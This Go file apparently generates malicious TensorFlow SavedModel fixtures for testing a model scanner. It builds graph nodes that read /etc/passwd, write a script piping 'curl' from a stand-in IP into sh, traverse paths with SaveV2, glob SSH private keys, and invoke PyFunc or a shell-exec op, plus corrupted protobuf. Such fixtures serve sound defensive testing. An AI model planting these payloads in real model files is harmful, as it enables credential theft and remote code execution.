package main

// hiddenCall adds a graph node that calls a library function, the way an
// attacker hides an op one level down.
func hiddenCall(fn string) []pb {
	return []pb{node("StatefulPartitionedCall_9", "StatefulPartitionedCall", []string{"serving_default_input_1"},
		attr{"Tin", aTypes(dtFloat)}, attr{"Tout", aTypes(dtString)}, attr{"f", aFunc(fn)})}
}

func readFileNodes() []pb {
	return []pb{
		constStr("ReadFile/filename", "/etc/passwd"),
		node("ReadFile", "ReadFile", []string{"ReadFile/filename"}),
	}
}

func writeFileFunction() pb {
	return function("__inference_write_2001", []string{"x"}, []string{"identity"},
		map[string]string{"identity": "Identity:output:0"},
		constStr("WriteFile/filename", "/tmp/.cache/update.sh"),
		constStr("WriteFile/contents", "#!/bin/sh\ncurl -s http://203.0.113.7/p | sh\n"),
		node("WriteFile", "WriteFile", []string{"WriteFile/filename:output:0", "WriteFile/contents:output:0"}),
		node("Identity", "Identity", []string{"x", "^WriteFile"}, attr{"T", aType(dtFloat)}),
	)
}

func pyFuncNodes() []pb {
	return []pb{node("PyFunc", "PyFunc", []string{"serving_default_input_1"},
		attr{"Tin", aTypes(dtFloat)}, attr{"Tout", aTypes(dtFloat)}, attr{"token", aStr("pyfunc_0")})}
}

func eagerPyFuncFunction() pb {
	return function("__inference_py_2002", []string{"x"}, []string{"identity"},
		map[string]string{"identity": "EagerPyFunc:output:0"},
		node("EagerPyFunc", "EagerPyFunc", []string{"x"},
			attr{"Tin", aTypes(dtFloat)}, attr{"Tout", aTypes(dtFloat)},
			attr{"is_async", aBool(false)}, attr{"token", aStr("pyfunc_1")}),
	)
}

func saveTraversalNodes() []pb {
	return []pb{
		constStr("save/Const", "../../../tmp/x"),
		constStr("save/tensor_names", "dense/kernel"),
		constStr("save/shape_and_slices", ""),
		node("save/SaveV2", "SaveV2", []string{"save/Const", "save/tensor_names", "save/shape_and_slices", "dense/kernel"},
			attr{"dtypes", aTypes(dtFloat)}),
	}
}

func matchingFilesNodes() []pb {
	return []pb{
		constStr("MatchingFiles/pattern", "/home/*/.ssh/id_*"),
		node("MatchingFiles", "MatchingFiles", []string{"MatchingFiles/pattern"}),
	}
}

func customOpFunction() pb {
	return function("__inference_custom_2003", []string{"x"}, []string{"identity"},
		map[string]string{"identity": "Exec:output:0"},
		node("Exec", "ZzzShellExec", []string{"x"}, attr{"T", aType(dtFloat)}),
	)
}

// corruptSavedModel keeps a readable PyFunc node, then breaks the wire
// format: a NodeDef whose length runs past the end of the file.
func corruptSavedModel() []byte {
	graph := pb(nil).msg(1, pyFuncNodes()[0])
	graph = append(graph, 0x0a, 0xff, 0xff, 0x03, 0x0a, 0x02) // node, length 65535, 2 bytes follow
	meta := pb(nil).msg(2, graph)
	return pb(nil).u(1, 1).msg(2, meta)
}

// wrongWireType keeps a readable PyFunc node, then sends GraphDef.node as
// a varint, which no TensorFlow writer produces.
func wrongWireType() []byte {
	graph := pb(nil).msg(1, pyFuncNodes()[0]).u(1, 5)
	return pb(nil).u(1, 1).msg(2, pb(nil).msg(2, graph))
}
